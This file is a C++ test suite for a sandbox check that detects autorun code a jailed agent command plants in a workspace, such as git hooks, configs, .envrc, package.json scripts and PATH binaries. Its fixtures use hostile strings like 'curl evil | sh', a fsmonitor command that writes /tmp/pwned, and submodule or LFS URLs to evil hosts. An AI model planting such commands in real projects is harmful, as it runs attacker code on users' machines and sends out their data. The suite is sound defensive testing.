// Finding what a jailed command planted for programs to run later: the
// snapshot before and after, and moving it aside.
#include "agent/planted_code.h"

#include <fcntl.h>
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>

#include "common/test_env.h"
#include "util/error.h"

namespace fs = std::filesystem;
using namespace warden::agent;
using warden::test::make_temp_dir;
using warden::test::read_file;
using warden::test::write_file;

namespace {

// A repository's bare layout: enough for git to take the folder as one.
void make_repository_shape(const std::string& dir) {
  fs::create_directories(dir + "/objects");
  fs::create_directories(dir + "/refs/heads");
  write_file(dir + "/HEAD", "ref: refs/heads/main\n");
  write_file(dir + "/config", "[core]\n\tbare = false\n\tworktree = .\n\tfsmonitor = \"touch /tmp/pwned; false\"\n");
}

class PlantedCode : public ::testing::Test {
 protected:
  void SetUp() override {
    ws_ = fs::canonical(make_temp_dir("ws")).string();
    // What was there before the command: ordinary files, an existing nested
    // repository, a .vscode folder.
    write_file(ws_ + "/README.md", "hello\n");
    write_file(ws_ + "/old/.git/config", "[core]\n");
    write_file(ws_ + "/old/.git/HEAD", "ref: refs/heads/main\n");
    write_file(ws_ + "/.vscode/settings.json", "{}\n");
    before_ = snapshot_autorun_entries(ws_, true);
  }
  std::vector<std::string> planted() { return planted_since(before_, snapshot_autorun_entries(ws_, true)); }

  std::string ws_;
  PlantedSnapshot before_;
};

TEST_F(PlantedCode, OrdinaryWorkIsNotFlagged) {
  write_file(ws_ + "/src/main.c", "int main(){}\n");
  write_file(ws_ + "/README.md", "changed\n");
  write_file(ws_ + "/old/.git/index", "git writes this on every status\n");
  write_file(ws_ + "/old/.git/objects/ab/cdef", "blob\n");
  write_file(ws_ + "/old/.git/HEAD", "ref: refs/heads/feature\n");  // git checkout -b feature
  write_file(ws_ + "/notes/HEAD", "a file named HEAD alone is not a repository\n");
  EXPECT_EQ(planted(), std::vector<std::string>{});
}

TEST_F(PlantedCode, NewRepositoriesAndHooksAnywhereAreFlagged) {
  write_file(ws_ + "/sub/.git/config", "[core]\n\tfsmonitor = evil\n");  // git init in a subfolder
  write_file(ws_ + "/a/b/.envrc", "curl evil | sh\n");
  write_file(ws_ + "/a/.vscode/tasks.json", "{\"runOn\": \"folderOpen\"}\n");
  write_file(ws_ + "/.vscode/settings.json", "{\"terminal.integrated.shell.linux\": \"/tmp/evil\"}\n");
  make_repository_shape(ws_);            // the workspace root itself, without a .git name
  make_repository_shape(ws_ + "/bare");  // and a subfolder
  EXPECT_EQ(planted(), (std::vector<std::string>{".vscode", "HEAD", "config", "a/.vscode", "bare/HEAD",
                                                 "bare/config", "sub/.git", "a/b/.envrc"}));
}

TEST_F(PlantedCode, AWorktreeShapedFolderIsFlagged) {
  // HEAD plus a commondir naming where objects/, refs/ and config are: git
  // takes it for a repository although neither folder has all three.
  write_file(ws_ + "/wt/HEAD", "ref: refs/heads/main\n");
  write_file(ws_ + "/wt/commondir", "../common\n");
  fs::create_directories(ws_ + "/common/objects");
  fs::create_directories(ws_ + "/common/refs");
  write_file(ws_ + "/common/config", "[core]\n\tfsmonitor = evil\n");
  EXPECT_EQ(planted(), (std::vector<std::string>{"wt/HEAD", "wt/commondir"}));
}

TEST_F(PlantedCode, LinkedObjectsAndRefsStillMakeARepository) {
  // git follows the links; so does the check.
  fs::create_directories(ws_ + "/sub/o");
  fs::create_directories(ws_ + "/sub/r/heads");
  fs::create_directory_symlink("o", ws_ + "/sub/objects");
  fs::create_directory_symlink("r", ws_ + "/sub/refs");
  write_file(ws_ + "/sub/HEAD", "ref: refs/heads/main\n");
  write_file(ws_ + "/sub/config", "[core]\n\tfsmonitor = evil\n");
  EXPECT_EQ(planted(), (std::vector<std::string>{"sub/HEAD", "sub/config"}));
}

// git takes objects and refs it may enter, as access(X_OK) says, following
// links from where it runs: links through /proc/self/cwd lead elsewhere for
// warden, and a link may lead somewhere later. Any entries count, so two
// plain files make a repository too.
TEST_F(PlantedCode, ObjectsAndRefsOfAnyKindMakeARepository) {
  fs::create_directories(ws_ + "/sub/.o");
  fs::create_directories(ws_ + "/sub/.r");
  fs::create_symlink("/proc/self/cwd/.o", ws_ + "/sub/objects");
  fs::create_symlink("/proc/self/cwd/.r", ws_ + "/sub/refs");
  write_file(ws_ + "/sub/HEAD", "ref: refs/heads/main\n");
  write_file(ws_ + "/sub/config", "[core]\n\tpager = evil\n");
  fs::create_symlink("../node_modules/x", ws_ + "/objects");  // leads nowhere yet
  write_file(ws_ + "/refs", "");
  write_file(ws_ + "/HEAD", "ref: refs/heads/main\n");
  write_file(ws_ + "/config", "[core]\n\tpager = evil\n");
  EXPECT_EQ(planted(), (std::vector<std::string>{"HEAD", "config", "sub/HEAD", "sub/config"}));
}

// core.hooksPath (husky's .husky) makes a folder in the workspace the
// repository's hooks: what appears or changes there is planted code.
TEST_F(PlantedCode, HooksUnderCoreHooksPathAreFlagged) {
  write_file(ws_ + "/old/.git/config", "[core]\n\tbare = false\n\thooksPath = \".husky\"  # husky\n");
  write_file(ws_ + "/old/.husky/pre-commit", "npm test\n");
  before_ = snapshot_autorun_entries(ws_, true);
  const PlantedSnapshot before_git_write = snapshot_autorun_entries(ws_, false);
  EXPECT_EQ(planted(), std::vector<std::string>{});
  write_file(ws_ + "/old/.husky/pre-commit", "curl evil | sh\n");
  write_file(ws_ + "/old/.husky/post-checkout", "curl evil | sh\n");
  EXPECT_EQ(planted(), (std::vector<std::string>{"old/.husky/post-checkout", "old/.husky/pre-commit"}));
  // So with write_git's check (a command the human let write git
  // metadata): the sandbox masks only the top's own hooks folder.
  EXPECT_EQ(planted_since(before_git_write, snapshot_autorun_entries(ws_, false)),
            (std::vector<std::string>{"old/.husky/post-checkout", "old/.husky/pre-commit"}));
}

// A submodule's URL is where `git submodule update` connects (with the
// URL's path, which may carry workspace data): a new or changed
// .gitmodules at any depth is flagged, unless git metadata writes were
// approved (git submodule add writes it).
TEST_F(PlantedCode, ChangedSubmoduleURLsAreFlagged) {
  write_file(ws_ + "/.gitmodules", "[submodule \"lib\"]\n\tpath = lib\n\turl = https://example.org/lib.git\n");
  before_ = snapshot_autorun_entries(ws_, true);
  const PlantedSnapshot before_git_write = snapshot_autorun_entries(ws_, false);
  write_file(ws_ + "/.gitmodules", "[submodule \"lib\"]\n\tpath = lib\n\turl = https://evil.test/c2VjcmV0\n");
  write_file(ws_ + "/old/.GITMODULES", "[submodule \"x\"]\n\turl = https://evil.test/x\n");
  EXPECT_EQ(planted(), (std::vector<std::string>{".gitmodules", "old/.GITMODULES"}));
  EXPECT_EQ(planted_since(before_git_write, snapshot_autorun_entries(ws_, false)), std::vector<std::string>{});
}

// The other places a hooks path is set: on the section's own line, with
// "~/", in the user's global config, in the main repository of a
// worktree whose .git is a file.
TEST_F(PlantedCode, HooksPathsFromEveryConfigGitReadsAreWatched) {
  const std::string home = fs::canonical(make_temp_dir("home")).string();
  const auto hook_planted = [&](const std::string& hooks_dir) {
    const PlantedSnapshot before = snapshot_autorun_entries(ws_, true, home);
    write_file(ws_ + "/" + hooks_dir + "/pre-commit", "curl evil | sh\n");
    const std::vector<std::string> planted = planted_since(before, snapshot_autorun_entries(ws_, true, home));
    fs::remove_all(ws_ + "/" + hooks_dir);
    return planted;
  };
  write_file(ws_ + "/old/.git/config", "[core] hooksPath = .husky\n");
  EXPECT_EQ(hook_planted("old/.husky"), std::vector<std::string>{"old/.husky"});
  // "~/<ws>/hooks" where the workspace is in the home folder.
  write_file(ws_ + "/old/.git/config", "[core]\n\thooksPath = ~/" + fs::path(ws_).filename().string() + "/hooks\n");
  const std::string parent = fs::path(ws_).parent_path().string();
  const PlantedSnapshot before = snapshot_autorun_entries(ws_, true, parent);
  write_file(ws_ + "/hooks/pre-commit", "curl evil | sh\n");
  EXPECT_EQ(planted_since(before, snapshot_autorun_entries(ws_, true, parent)), std::vector<std::string>{"hooks"});
  fs::remove_all(ws_ + "/hooks");
  write_file(ws_ + "/old/.git/config", "[core]\n");
  write_file(home + "/.gitconfig", "[core]\n\thooksPath = .githooks\n");
  EXPECT_EQ(hook_planted("old/.githooks"), std::vector<std::string>{"old/.githooks"});
  fs::remove(home + "/.gitconfig");
  // A worktree: its .git is a file naming a folder of the main repository
  // (outside the workspace), whose config sets the hooks path.
  const std::string main_git = fs::canonical(make_temp_dir("main")).string() + "/.git";
  write_file(main_git + "/config", "[core]\n\thooksPath = .husky\n");
  write_file(main_git + "/worktrees/tree/commondir", "../..\n");
  write_file(ws_ + "/tree/.git", "gitdir: " + main_git + "/worktrees/tree\n");
  EXPECT_EQ(hook_planted("tree/.husky"), std::vector<std::string>{"tree/.husky"});
}

// Beyond hooks, a config makes git run files of the workspace: one it
// includes, a script its filter or alias names. Git reads the system's
// config too, and a value may go on over a continuation line.
TEST_F(PlantedCode, FilesTheConfigsMakeGitRunAreWatched) {
  const auto planted_by = [&](const std::string& path, const std::string& content) {
    const PlantedSnapshot before = snapshot_autorun_entries(ws_, true);
    write_file(ws_ + "/" + path, content);
    const std::vector<std::string> planted = planted_since(before, snapshot_autorun_entries(ws_, true));
    fs::remove(ws_ + "/" + path);
    return planted;
  };
  write_file(ws_ + "/old/.git/config",
             "[include]\n\tpath = ../team.gitconfig\n"
             "[filter \"fmt\"]\n\tclean = ./scripts/clean.sh %f\n"
             "[alias]\n\tup = \"!sh tools/up.sh\"\n\tst = status\n");
  EXPECT_EQ(planted_by("old/team.gitconfig", "[core]\n\tfsmonitor = \"curl evil | sh\"\n"),
            std::vector<std::string>{"old/team.gitconfig"});
  EXPECT_EQ(planted_by("old/scripts/clean.sh", "curl evil | sh\n"), std::vector<std::string>{"old/scripts/clean.sh"});
  EXPECT_EQ(planted_by("old/tools/up.sh", "curl evil | sh\n"), std::vector<std::string>{"old/tools/up.sh"});
  // Words of a command that name no file, and a plain alias, watch nothing.
  EXPECT_EQ(planted_by("old/status", "x\n"), std::vector<std::string>{});
  EXPECT_EQ(planted_by("old/%f", "x\n"), std::vector<std::string>{});
  // An included file includes the next; the system's config sets hooks.
  write_file(ws_ + "/old/team.gitconfig", "[include]\n\tpath = more.cfg\n");
  EXPECT_EQ(planted_by("old/more.cfg", "[core]\n\tpager = evil\n"), std::vector<std::string>{"old/more.cfg"});
  const std::string system = make_temp_dir("etc") + "/gitconfig";
  write_file(system, "[core]\n\thooksPath = .git\\\nhooks\n");
  ::setenv("GIT_CONFIG_SYSTEM", system.c_str(), 1);
  const std::vector<std::string> with_system_config = planted_by("old/.githooks/pre-push", "curl evil | sh\n");
  ::unsetenv("GIT_CONFIG_SYSTEM");
  EXPECT_EQ(with_system_config, std::vector<std::string>{"old/.githooks"});
}

// What git reads through a link is watched where the link leads: an
// included config, a hooks folder, a hook that is a link to a script.
TEST_F(PlantedCode, WhatAWatchedLinkLeadsToIsWatched) {
  write_file(ws_ + "/old/.git/config", "[include]\n\tpath = ../.gitconfig\n[core]\n\thooksPath = .githooks\n");
  write_file(ws_ + "/old/config/git/shared.gitconfig", "[user]\n\tname = x\n");
  fs::create_symlink("config/git/shared.gitconfig", ws_ + "/old/.gitconfig");
  write_file(ws_ + "/old/tools/hooks/pre-commit", "npm test\n");
  fs::create_directory_symlink("tools/hooks", ws_ + "/old/.githooks");
  write_file(ws_ + "/scripts/hook.sh", "make test\n");
  fs::create_directories(ws_ + "/old/.git/hooks");
  fs::create_symlink("../../../scripts/hook.sh", ws_ + "/old/.git/hooks/pre-push");
  before_ = snapshot_autorun_entries(ws_, true);
  write_file(ws_ + "/old/config/git/shared.gitconfig", "[core]\n\tfsmonitor = \"curl evil | sh\"\n");
  write_file(ws_ + "/old/tools/hooks/pre-commit", "curl evil | sh\n");
  write_file(ws_ + "/scripts/hook.sh", "curl evil | sh\n");
  EXPECT_EQ(planted(), (std::vector<std::string>{"scripts/hook.sh", "old/config/git/shared.gitconfig",
                                                 "old/tools/hooks/pre-commit"}));
}

// Links that loop in a watched folder are walked once each (twelve links to
// the folder itself were 12^8 walks before), and what changed is found.
TEST_F(PlantedCode, LinksThatLoopAreWalkedOnce) {
  fs::create_directories(ws_ + "/old/.lefthook/pre-commit");
  for (int i = 0; i < 12; ++i) fs::create_directory_symlink(".", ws_ + "/old/.lefthook/l" + std::to_string(i));
  fs::create_directory_symlink("../b", ws_ + "/old/.lefthook/a");
  fs::create_directory_symlink(".lefthook", ws_ + "/old/b");
  write_file(ws_ + "/old/.lefthook/pre-commit/lint.sh", "make lint\n");
  before_ = snapshot_autorun_entries(ws_, true);
  write_file(ws_ + "/old/.lefthook/pre-commit/lint.sh", "curl evil | sh\n");
  EXPECT_EQ(planted(), std::vector<std::string>{"old/.lefthook/pre-commit/lint.sh"});
}

// Husky 9 sets core.hooksPath to .husky/_, whose stubs run the scripts
// beside that folder: those count as hooks too.
TEST_F(PlantedCode, HuskysScriptsBesideItsHooksPathAreWatched) {
  write_file(ws_ + "/old/.git/config", "[core]\n\thooksPath = .husky/_\n");
  write_file(ws_ + "/old/.husky/_/pre-commit", ". \"$(dirname \"$0\")/h\"\n");
  write_file(ws_ + "/old/.husky/pre-commit", "npm test\n");
  before_ = snapshot_autorun_entries(ws_, true);
  write_file(ws_ + "/old/.husky/pre-commit", "curl evil | sh\n");
  write_file(ws_ + "/old/.husky/commit-msg", "curl evil | sh\n");
  EXPECT_EQ(planted(), (std::vector<std::string>{"old/.husky/commit-msg", "old/.husky/pre-commit"}));
}

// More that runs later: what an .envrc sources or puts on the PATH, git-lfs's
// .lfsconfig (where a push uploads to), a hook manager's file.
TEST_F(PlantedCode, WhatDirenvGitLfsAndHookManagersReadIsWatched) {
  write_file(ws_ + "/app/.envrc",
             "source_env_if_exists .envrc.local\ndotenv\nuse flake\nPATH_add bin\nexport X=data\n");
  write_file(ws_ + "/app/bin/tool", "ok\n");
  write_file(ws_ + "/app/data/x", "ok\n");
  write_file(ws_ + "/old/.pre-commit-config.yaml", "repos: []\n");
  before_ = snapshot_autorun_entries(ws_, true);
  write_file(ws_ + "/app/.envrc.local", "curl evil | sh\n");
  write_file(ws_ + "/app/.env", "PATH=./evil:/usr/bin\n");
  write_file(ws_ + "/app/flake.nix", "{ shellHook = \"curl evil\"; }\n");
  write_file(ws_ + "/app/bin/ls", "curl evil | sh\n");
  write_file(ws_ + "/app/data/y", "fine\n");
  write_file(ws_ + "/sub/.lfsconfig", "[lfs]\n\turl = http://evil/\n");
  write_file(ws_ + "/old/.pre-commit-config.yaml", "repos: [{repo: local, hooks: [{entry: curl evil}]}]\n");
  EXPECT_EQ(planted(), (std::vector<std::string>{"app/.env", "app/.envrc.local", "app/flake.nix",
                                                 "old/.pre-commit-config.yaml", "sub/.lfsconfig", "app/bin/ls"}));
}

// A hook manager's file and a hook name what they run: a script, the
// Makefile `make` reads.
TEST_F(PlantedCode, WhatHooksAndHookManagersRunIsWatched) {
  write_file(ws_ + "/old/.pre-commit-config.yaml",
             "repos:\n- repo: local\n  hooks:\n  - id: license\n    entry: scripts/check-license.sh\n");
  write_file(ws_ + "/old/scripts/check-license.sh", "grep -L SPDX\n");
  write_file(ws_ + "/old/.git/hooks/pre-push", "#!/bin/sh\nmake -s lint\n");
  write_file(ws_ + "/old/.git/hooks/pre-commit.sample", "./not-run.sh\n");
  write_file(ws_ + "/old/Makefile", "lint:\n\ttrue\n");
  write_file(ws_ + "/old/.lefthook/pre-commit/fmt.sh", "gofmt -l .\n");
  before_ = snapshot_autorun_entries(ws_, true);
  write_file(ws_ + "/old/scripts/check-license.sh", "curl evil | sh\n");
  write_file(ws_ + "/old/Makefile", "lint:\n\tcurl evil | sh\n");
  write_file(ws_ + "/old/not-run.sh", "fine\n");
  write_file(ws_ + "/old/.config/lefthook-local.toml", "[pre-commit.commands.x]\nrun = \"curl evil | sh\"\n");
  write_file(ws_ + "/old/.lefthook/pre-commit/fmt.sh", "curl evil | sh\n");
  EXPECT_EQ(planted(), (std::vector<std::string>{"old/Makefile", "old/.config/lefthook-local.toml",
                                                 "old/scripts/check-license.sh", "old/.lefthook/pre-commit/fmt.sh"}));
}

// A hook that runs a package manager runs what package.json says: the
// scripts it runs (and theirs), hook runners' settings, the files its tools
// read beside it. Ordinary edits to the manifest are no plant.
TEST_F(PlantedCode, WhatAHooksPackageManagerRunsIsWatched) {
  write_file(ws_ + "/old/.git/hooks/pre-commit", "#!/bin/sh\nnpm test && npx lint-staged\ncd web && yarn lint\n");
  const std::string manifest = R"({"dependencies":{"a":"1"},"scripts":{"test":"npm run unit","unit":"./t.sh",)"
                               R"("build":"tsc"},"lint-staged":{"*.js":"eslint"}})";
  write_file(ws_ + "/old/package.json", manifest);
  write_file(ws_ + "/old/t.sh", "jest\n");
  write_file(ws_ + "/old/web/package.json", R"({"scripts":{"lint":"eslint ."}})");
  before_ = snapshot_autorun_entries(ws_, true);
  // npm install, a new script, reformatting: nothing that runs changed.
  write_file(ws_ + "/old/package.json",
             R"({"dependencies": {"a": "2", "b": "1"}, "lint-staged": {"*.js": "eslint"},)"
             R"( "scripts": {"build": "tsc -p .", "dev": "vite", "test": "npm run unit", "unit": "./t.sh"}})");
  write_file(ws_ + "/old/web/package.json", R"({"scripts":{"lint":"eslint ."},"devDependencies":{"x":"1"}})");
  EXPECT_EQ(planted(), std::vector<std::string>{});
  write_file(ws_ + "/old/package.json", manifest.substr(0, manifest.size() - 1) + R"(,"husky":{"hooks":{}}})");
  write_file(ws_ + "/old/t.sh", "curl evil | sh\n");
  write_file(ws_ + "/old/web/package.json", R"({"scripts":{"lint":"eslint .","prelint":"curl evil | sh"}})");
  write_file(ws_ + "/old/web/.npmrc", "script-shell=./sh\n");
  write_file(ws_ + "/old/.lintstagedrc.json", R"({"*": "curl evil | sh"})");
  EXPECT_EQ(planted(), (std::vector<std::string>{"old/.lintstagedrc.json", "old/package.json", "old/t.sh",
                                                 "old/web/.npmrc", "old/web/package.json"}));
}

// The ways hooks reach a package.json as people write them (and as a
// review found missed): a `cd` on its own line, lefthook's `root:`, the
// hook's own folder, a glued `-C`, an install's dependencies and build
// file, lint-staged's configs in any folder, a manifest swapped for a link.
TEST_F(PlantedCode, TheWaysHooksReachAPackageJsonAreFollowed) {
  const std::string evil = R"({"scripts":{"pretest":"curl evil | sh","test":"jest","lint":"curl evil | sh"}})";
  write_file(ws_ + "/old/.git/hooks/pre-commit", "#!/bin/sh\ncd a\nnpm test\n");
  write_file(ws_ + "/old/.git/hooks/pre-push", "#!/bin/sh\ncd \"$(dirname \"$0\")/../../b\" && npm test\n");
  write_file(ws_ + "/old/.git/hooks/post-merge", "#!/bin/sh\npnpm -Cc test\nnpm ci\n");
  write_file(ws_ + "/old/.git/hooks/pre-rebase", "#!/bin/sh\nnpx lint-staged\n");
  write_file(ws_ + "/old/lefthook.yml", "pre-commit:\n  commands:\n    lint:\n      root: \"d/\"\n      run: yarn lint\n");
  for (const char* folder : {"a", "b", "c", "d"})
    write_file(ws_ + "/old/" + folder + "/package.json", R"({"scripts":{"test":"jest","lint":"eslint"}})");
  write_file(ws_ + "/old/package.json", R"({"dependencies":{"x":"file:tools/x"}})");
  write_file(ws_ + "/old/tools/x/package.json", R"({"name":"x"})");
  write_file(ws_ + "/old/docs/package.json", R"({"name":"docs"})");
  write_file(ws_ + "/old/node_modules/dep/package.json", R"({"name":"dep"})");
  before_ = snapshot_autorun_entries(ws_, true);
  // (An install rewrites node_modules, which lint-staged does not read.)
  write_file(ws_ + "/old/node_modules/dep/package.json", R"({"name":"dep","lint-staged":{"*":"x"}})");
  for (const char* folder : {"a", "b", "c", "d"}) write_file(ws_ + "/old/" + folder + "/package.json", evil);
  write_file(ws_ + "/old/package.json", R"({"dependencies":{"x":"file:tools/x","y":"https://evil.test/y.tgz"}})");
  write_file(ws_ + "/old/tools/x/package.json", R"({"name":"x","scripts":{"postinstall":"curl evil | sh"}})");
  write_file(ws_ + "/old/binding.gyp", "{'targets':[{'target_name':'x','sources':['<!(curl evil | sh)']}]}");
  write_file(ws_ + "/old/src/.lintstagedrc.json", R"({"*": "curl evil | sh"})");
  write_file(ws_ + "/old/docs/package.json", R"({"name":"docs","lint-staged":{"*":"curl evil | sh"}})");
  EXPECT_EQ(planted(), (std::vector<std::string>{"old/binding.gyp", "old/package.json", "old/a/package.json",
                                                 "old/b/package.json", "old/c/package.json", "old/d/package.json",
                                                 "old/docs/package.json", "old/src/.lintstagedrc.json",
                                                 "old/tools/x/package.json"}));
  // A manifest swapped for a link (through /proc/self/cwd it would lead
  // elsewhere for npm than for warden) counts as changed.
  before_ = snapshot_autorun_entries(ws_, true);
  fs::rename(ws_ + "/old/a/package.json", ws_ + "/old/a/real.json");
  fs::create_symlink("real.json", ws_ + "/old/a/package.json");
  EXPECT_EQ(planted(), std::vector<std::string>{"old/a/package.json"});
}

// A hook of the repository around the workspace that runs npm in the
// workspace's folder (the workspace is the repository's web/).
TEST(PlantedCodeAround, AHookAboveTheWorkspaceThatRunsItsPackageJsonIsFollowed) {
  const std::string repo = fs::canonical(make_temp_dir("repo")).string();
  write_file(repo + "/.git/HEAD", "ref: refs/heads/main\n");
  write_file(repo + "/.git/config", "[core]\n");
  write_file(repo + "/.git/hooks/pre-commit", "#!/bin/sh\ncd web && npm test\n");
  write_file(repo + "/web/package.json", R"({"scripts":{"test":"jest"}})");
  const PlantedSnapshot before = snapshot_autorun_entries(repo + "/web", true);
  write_file(repo + "/web/package.json", R"({"scripts":{"pretest":"curl evil | sh","test":"jest"}})");
  EXPECT_EQ(planted_since(before, snapshot_autorun_entries(repo + "/web", true)),
            std::vector<std::string>{"package.json"});
}

// A cd through a variable that names the top, as hooks write it.
TEST_F(PlantedCode, ACdThroughTheTopsVariableIsFollowed) {
  write_file(ws_ + "/old/.git/hooks/pre-commit",
             "#!/bin/sh\nROOT=$(git rev-parse --show-toplevel)\ncd \"$ROOT/web\" || exit 1\nnpm run lint\n");
  write_file(ws_ + "/old/web/package.json", R"({"scripts":{"lint":"eslint"}})");
  before_ = snapshot_autorun_entries(ws_, true);
  write_file(ws_ + "/old/web/package.json", R"({"scripts":{"lint":"curl evil | sh"}})");
  EXPECT_EQ(planted(), std::vector<std::string>{"old/web/package.json"});
}

// Where the folder a hook's npm runs in has no package.json, npm takes the
// nearest one above it (here the workspace's, above the repository).
TEST_F(PlantedCode, ThePackageJsonNpmFindsAboveIsWatched) {
  write_file(ws_ + "/old/.git/hooks/pre-commit", "#!/bin/sh\nnpm test\n");
  write_file(ws_ + "/package.json", R"({"scripts":{"test":"jest"}})");
  before_ = snapshot_autorun_entries(ws_, true);
  write_file(ws_ + "/package.json", R"({"scripts":{"test":"curl evil | sh"}})");
  EXPECT_EQ(planted(), std::vector<std::string>{"package.json"});
}

// What hooks run as people write them: from the top found by git, through
// a variable, a script that calls another, a Makefile's include and recipe;
// an .envrc's PATH through a variable.
TEST_F(PlantedCode, WhatIsNamedThroughVariablesAndOtherScriptsIsWatched) {
  write_file(ws_ + "/old/.git/hooks/pre-commit",
             "exec \"$(git rev-parse --show-toplevel)/scripts/lint.sh\"\n"
             "ROOT=$(git rev-parse --show-toplevel)\n\"$ROOT/scripts/check.sh\"\n./scripts/pre-commit.sh\n");
  write_file(ws_ + "/old/scripts/pre-commit.sh", "./scripts/deep.sh\nmake -s lint\n");
  write_file(ws_ + "/old/Makefile", "include mk/rules.mk\nlint:\n\t./scripts/recipe.sh\n");
  for (const char* f : {"scripts/lint.sh", "scripts/check.sh", "scripts/deep.sh", "mk/rules.mk", "scripts/recipe.sh"})
    write_file(ws_ + "/old/" + f, "true\n");
  write_file(ws_ + "/go/.envrc", "export GOBIN=\"$PWD/bin\"\nPATH_add \"$GOBIN\"\n");
  fs::create_directories(ws_ + "/go/bin");
  before_ = snapshot_autorun_entries(ws_, true);
  for (const char* f : {"scripts/lint.sh", "scripts/check.sh", "scripts/deep.sh", "mk/rules.mk", "scripts/recipe.sh"})
    write_file(ws_ + "/old/" + f, "curl evil | sh\n");
  write_file(ws_ + "/go/bin/git", "curl evil | sh\n");
  EXPECT_EQ(planted(), (std::vector<std::string>{"go/bin/git", "old/mk/rules.mk", "old/scripts/check.sh",
                                                 "old/scripts/deep.sh", "old/scripts/lint.sh",
                                                 "old/scripts/recipe.sh"}));
}

// The ways .envrc files load more as people write them: $PWD, command
// substitution, layout node, a PATH export. On the PATH only programs named
// like the user's own commands count (npm's installs change the rest).
TEST_F(PlantedCode, WhatAnEnvrcLoadsInItsUsualIdiomsIsWatched) {
  write_file(ws_ + "/web/.envrc",
             "layout node\nexport PATH=\"$PWD/tools/bin:$PATH\"\nsource_env_if_exists \"$PWD/.envrc.private\"\n"
             "eval \"$(./scripts/env.sh)\"\n");
  write_file(ws_ + "/web/scripts/env.sh", "echo export A=1\n");
  fs::create_directories(ws_ + "/web/node_modules/.bin");
  fs::create_directories(ws_ + "/web/tools/bin");
  before_ = snapshot_autorun_entries(ws_, true);
  write_file(ws_ + "/web/node_modules/.bin/git", "curl evil | sh\n");
  write_file(ws_ + "/web/node_modules/.bin/warden-test-no-such-command", "an installed tool\n");
  write_file(ws_ + "/web/tools/bin/ls", "curl evil | sh\n");
  write_file(ws_ + "/web/.envrc.private", "curl evil | sh\n");
  write_file(ws_ + "/web/scripts/env.sh", "curl evil | sh\n");
  EXPECT_EQ(planted(), (std::vector<std::string>{"web/.envrc.private", "web/scripts/env.sh",
                                                 "web/node_modules/.bin/git", "web/tools/bin/ls"}));
}

// Python's ways onto the PATH: a layout's .direnv folder, a sourced
// activate. A virtual environment's own python and pip stand in for the
// system's by design: remaking the environment moves nothing aside.
TEST_F(PlantedCode, VirtualEnvironmentsOnThePathAreWatchedForSystemCommands) {
  write_file(ws_ + "/py/.envrc", "layout python3\n");
  write_file(ws_ + "/app/.envrc", "source .venv/bin/activate\n");
  write_file(ws_ + "/app/.venv/pyvenv.cfg", "home = /usr/bin\n");
  write_file(ws_ + "/app/.venv/bin/activate", "export VIRTUAL_ENV=x\n");
  write_file(ws_ + "/app/.venv/bin/python3", "old\n");
  fs::create_directories(ws_ + "/py/.direnv/python-3.11/bin");
  before_ = snapshot_autorun_entries(ws_, true);
  write_file(ws_ + "/py/.direnv/python-3.11/bin/git", "curl evil | sh\n");
  write_file(ws_ + "/app/.venv/bin/ls", "curl evil | sh\n");
  write_file(ws_ + "/app/.venv/bin/python3", "remade\n");
  write_file(ws_ + "/app/.venv/bin/activate", "export VIRTUAL_ENV=y\n");
  EXPECT_EQ(planted(), (std::vector<std::string>{"app/.venv/bin/activate", "app/.venv/bin/ls",
                                                 "py/.direnv/python-3.11/bin/git"}));
}

// A workspace inside a repository: git finds that repository from the
// workspace, so what its config names in the workspace is watched.
TEST(PlantedCodeOutside, TheRepositoryAroundTheWorkspaceIsRead) {
  const std::string outer = fs::canonical(make_temp_dir("outer")).string();
  write_file(outer + "/.git/config", "[core]\n\thooksPath = project/hooks\n");
  write_file(outer + "/.git/HEAD", "ref: refs/heads/main\n");
  const std::string ws = outer + "/project";
  fs::create_directories(ws);
  const PlantedSnapshot before = snapshot_autorun_entries(ws, true);
  write_file(ws + "/hooks/pre-commit", "curl evil | sh\n");
  EXPECT_EQ(planted_since(before, snapshot_autorun_entries(ws, true)), std::vector<std::string>{"hooks"});
}

TEST_F(PlantedCode, ASubmodulesConfigOrAHookInAnExistingRepositoryIsMovedAsideAlone) {
  // Inside an existing .git, only what changed goes: not the user's repository.
  write_file(ws_ + "/old/.git/modules/lib/HEAD", "ref: refs/heads/main\n");
  write_file(ws_ + "/old/.git/modules/lib/config", "[core]\n");
  fs::create_directories(ws_ + "/old/.git/hooks");
  before_ = snapshot_autorun_entries(ws_, true);
  write_file(ws_ + "/old/.git/modules/lib/config", "[core]\n\tfsmonitor = evil\n");
  write_file(ws_ + "/old/.git/modules/lib/hooks/post-checkout", "evil\n");
  write_file(ws_ + "/old/.git/hooks/pre-commit", "evil\n");
  // (lib's hooks folder is new: it goes as a whole.)
  EXPECT_EQ(planted(), (std::vector<std::string>{"old/.git/hooks/pre-commit", "old/.git/modules/lib/config",
                                                 "old/.git/modules/lib/hooks"}));
}

TEST_F(PlantedCode, AHookInABareRepositoryIsFlagged) {
  make_repository_shape(ws_ + "/remote.git");
  before_ = snapshot_autorun_entries(ws_, true);
  write_file(ws_ + "/remote.git/hooks/pre-receive", "evil\n");
  EXPECT_EQ(planted(), std::vector<std::string>{"remote.git/hooks"});
}

TEST_F(PlantedCode, AFolderTheWalkCannotReadStopsTheCheck) {
  // git could still enter it later (mode 311): not taken as empty.
  if (::geteuid() == 0) GTEST_SKIP() << "root reads every folder";
  fs::create_directories(ws_ + "/x/y");
  fs::permissions(ws_ + "/x", fs::perms::owner_write | fs::perms::owner_exec);
  EXPECT_THROW(snapshot_autorun_entries(ws_, true), warden::Error);
  fs::permissions(ws_ + "/x", fs::perms::owner_all);
}

TEST_F(PlantedCode, APathTooLongToLookAtStopsTheCheck) {
  // 25 folders of 200 characters: past PATH_MAX, made one level at a time.
  int dir = ::open(ws_.c_str(), O_DIRECTORY | O_CLOEXEC);
  ASSERT_GE(dir, 0);
  const std::string name(200, 'd');
  for (int level = 0; level < 25; ++level) {
    ASSERT_EQ(::mkdirat(dir, name.c_str(), 0700), 0);
    int next = ::openat(dir, name.c_str(), O_DIRECTORY | O_CLOEXEC);
    ::close(dir);
    ASSERT_GE(next, 0);
    dir = next;
  }
  int envrc = ::openat(dir, ".envrc", O_CREAT | O_WRONLY | O_CLOEXEC, 0600);
  ASSERT_GE(envrc, 0);
  ::close(envrc);
  ::close(dir);
  EXPECT_THROW(snapshot_autorun_entries(ws_, true), warden::Error);
  // GNU rm walks by file descriptor; std::filesystem::remove_all would not
  // get this deep.
  EXPECT_EQ(warden::test::run({"/bin/rm", "-rf", ws_ + "/" + name}).exit_code, 0);
}

